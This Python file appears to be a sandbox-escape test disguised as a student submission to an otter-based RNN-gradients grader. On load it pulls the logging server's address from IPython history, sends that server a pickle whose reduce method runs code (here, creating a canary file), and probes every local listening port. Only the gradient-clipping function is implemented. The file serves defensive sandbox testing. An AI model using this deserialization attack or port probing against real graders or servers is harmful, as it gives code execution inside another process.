"""Send a pickle to otter's logging server, the old way into otter's own process.

otter's grading cell ``logging.send_logs(HOST, PORT)`` names a server in otter's process that
unpickles every record it receives. From the kernel, this submission reads that cell back from
IPython's history, connects to the host and port it names and sends a length-prefixed pickle
whose loading creates a canary file. It also tries to connect (without sending anything) to every
TCP socket listening on this machine (from ``/proc/self/net/tcp``) and, in the sealed run, just
to open a socket.

clip_by_global_norm is implemented correctly; nothing else is.
"""

EXPECT = {"bptt_gradients": 0, "hidden_gradients": 0, "gradient_norms": 0,
          "truncated_bptt_gradients": 0, "clip_by_global_norm": 1}

NAME = "logging_server_pickle"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import pickle  # noqa: E402
import re  # noqa: E402
import socket  # noqa: E402
import struct  # noqa: E402


class Payload:
    """Unpickled anywhere, it creates a canary file: code running in the unpickler's process."""

    def __reduce__(self):
        import builtins

        return (builtins.open, (f"{CANARY}/{NAME}-unpickled-by-the-grader.txt", "w"))


def logging_server():
    """Where otter's init cell sends its log records, from the kernel's input history."""
    try:
        history = get_ipython().user_ns.get("In", [])  # noqa: F821
    except Exception:  # noqa: BLE001
        history = []
    for source in history:
        found = re.search(r'send_logs\("([^"]*)", (\d+)\)', source or "")
        if found:
            return found.group(1), int(found.group(2))
    return None


def send_pickle(host, port):
    data = pickle.dumps(Payload())
    with socket.create_connection((host, port), timeout=2) as conn:
        conn.sendall(struct.pack(">L", len(data)) + data)


def listening_ports():
    ports = set()
    for table in ("/proc/self/net/tcp", "/proc/self/net/tcp6", "/proc/net/tcp"):
        try:
            with open(table) as f:
                for line in f.readlines()[1:]:
                    fields = line.split()
                    if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return sorted(ports)


def probe(port):
    with socket.create_connection(("127.0.0.1", port), timeout=1):
        pass


if SEALED:
    tried("the sealed run made a socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close())
else:
    server = logging_server()
    if server is not None:
        tried(f"sent a pickle to otter's logging server {server}", lambda: send_pickle(*server))
    for port in listening_ports()[:50]:
        tried(f"connected to 127.0.0.1:{port}", lambda: probe(port))

import numpy as np  # noqa: E402


def bptt_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def hidden_gradients(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def gradient_norms(X, y, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def truncated_bptt_gradients(X, y, Wx, Wh, bh, Wo, bo, k):
    raise NotImplementedError


def clip_by_global_norm(grads, clip_norm):
    global_norm = float(np.sqrt(sum(np.sum(np.square(g, dtype=np.float64)) for g in grads)))
    scale = clip_norm / max(global_norm, clip_norm)
    return [g * scale for g in grads], global_norm


finish()
